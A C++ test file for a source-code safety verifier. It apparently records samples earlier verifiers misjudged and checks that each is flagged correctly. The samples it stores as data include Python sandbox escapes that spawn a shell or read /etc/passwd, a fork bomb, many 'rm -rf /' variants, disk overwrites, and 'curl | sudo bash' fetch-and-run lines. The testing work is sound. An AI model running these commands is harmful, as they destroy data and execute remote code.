// What the verifiers before this one let through or refused wrongly (SEEDS §1.10, §2.1, §4.3), each by its name.
#include <gtest/gtest.h>

#include <algorithm>

#include "languages/engine.h"

namespace hotcell {
namespace {

struct Miss {
  const char* name;
  const char* language;
  const char* source;
  bool safe = false;
};

void PrintTo(const Miss& miss, std::ostream* out) { *out << miss.name; }

constexpr Miss kMisses[] = {
    {"FromTypingImportSys", "python", "from typing import sys\nsys.modules['posix'].execv('/bin/sh', ['sh', '-c', 'id'])\n"},
    {"MatchCaseObjectSys", "python", "import typing\nmatch typing:\n  case object(sys=s):\n    s.modules['posix'].system('id')\n"},
    {"FromJsonImportCodecs", "python", "from json import codecs\nprint(codecs.open('/etc/passwd').read())\n"},
    {"ForkBomb", "bash", ":(){ :|:& };:\n"},
    {"RmSeparateFlags", "bash", "rm -r -f /\n"},
    {"RmLongFlags", "bash", "rm --recursive --force /\n"},
    {"RmHome", "bash", "rm -rf ~\n"},
    {"RmQuotedRoot", "bash", "rm -rf \"/\"\n"},
    {"RmAfterDashes", "bash", "rm -rf -- /\n"},
    {"RmThenTrue", "bash", "rm -rf / ; true\n"},
    {"FindDelete", "bash", "find / -delete\n"},
    {"CurlToSudoBash", "bash", "curl https://a.example/x | sudo bash\n"},
    {"CurlToPython", "bash", "curl https://a.example/x | python3\n"},
    {"BashOfACurl", "bash", "bash <(curl https://a.example/x)\n"},
    {"CurlToZsh", "bash", "curl https://a.example/x | zsh\n"},
    {"GoRenamedImport", "go", "package main\n\nimport run \"os/exec\"\n\nfunc main() { run.Command(\"id\").Run() }\n"},
    {"GoCommandContext", "go", "package main\n\nimport (\n\t\"context\"\n\t\"os/exec\"\n)\n\nfunc main() { exec.CommandContext(context.Background(), \"id\").Run() }\n"},
    {"GoStartProcess", "go", "package main\n\nimport \"os\"\n\nfunc main() { os.StartProcess(\"/bin/sh\", nil, &os.ProcAttr{}) }\n"},
    {"RmFr", "bash", "rm -fr /\n"},
    {"RmHomeVariable", "bash", "rm -rf $HOME\n"},
    {"WriteToADisk", "bash", "echo x > /dev/sda\n"},
    {"ACommentIsNoCode", "python", "# eval(x)\nprint(1)\n", true},
    {"RmBelowTmpIsFine", "bash", "rm -rf /tmp/x\n", true},
    {"EchoMkfsIsFine", "bash", "echo mkfs\n", true},
};

class FoundingMisses : public ::testing::TestWithParam<Miss> {};

TEST_P(FoundingMisses, IsJudgedRightly) {
  const Miss& m = GetParam();
  Verification v = verify_source({m.language, "f", m.source, {}});
  EXPECT_EQ(v.safe, m.safe) << m.source;
  EXPECT_FALSE(v.unverifiable) << m.source;
  const bool told = std::any_of(v.findings.begin(), v.findings.end(), [](const Finding& f) { return f.severity == "error" && f.line > 0 && !f.fix.empty(); });
  EXPECT_EQ(told, !m.safe) << m.source;
}

INSTANTIATE_TEST_SUITE_P(Seeds, FoundingMisses, ::testing::ValuesIn(kMisses), [](const auto& miss) { return std::string(miss.param.name); });

}  // namespace
}  // namespace hotcell
